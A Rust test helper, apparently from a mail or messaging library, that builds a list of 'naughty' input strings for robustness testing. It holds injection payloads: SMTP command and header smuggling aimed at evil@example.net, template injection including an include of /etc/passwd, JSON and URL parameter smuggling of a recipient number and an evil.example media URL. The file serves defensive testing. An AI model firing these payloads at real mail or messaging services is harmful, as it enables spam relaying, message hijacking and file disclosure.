//! Strings that resemble code.

/// Returns the list of naughty strings, and strings that end a message for some servers only.
pub(crate) fn naughty() -> Vec<String> {
    let mut strings: Vec<String> = [
        "\r\n.\r\n",
        "\n.\n",
        "\r.\r",
        "\n.\r\n",
        "\r\n.\n",
        "\r\n.\r",
        "\r\n\0.\r\n",
        ".",
        "..",
        "\r\n..\r\n",
        "x\r\nBcc: evil@example.net",
        "x\nRCPT TO:<evil@example.net>",
        "\r\n.\r\nMAIL FROM:<evil@example.net>\r\n",
        "{{ 7 * 7 }}",
        "{% include '/etc/passwd' %}",
        "\"}, \"to\": \"+15005550009\", \"x\": {\"",
        "x&To=%2B15005550009&MediaUrl=https://evil.example",
        "\u{2028}\u{2029}\u{feff}\u{0}\\",
        "=?utf-8?q?=0D=0ABcc:_evil@example.net?=",
    ]
    .map(str::to_owned)
    .into();
    let text = std::fs::read(postern_core::testing::vectors("blns.json")).expect("a readable file");
    strings.extend(serde_json::from_slice::<Vec<String>>(&text).expect("a list of strings"));
    strings
}
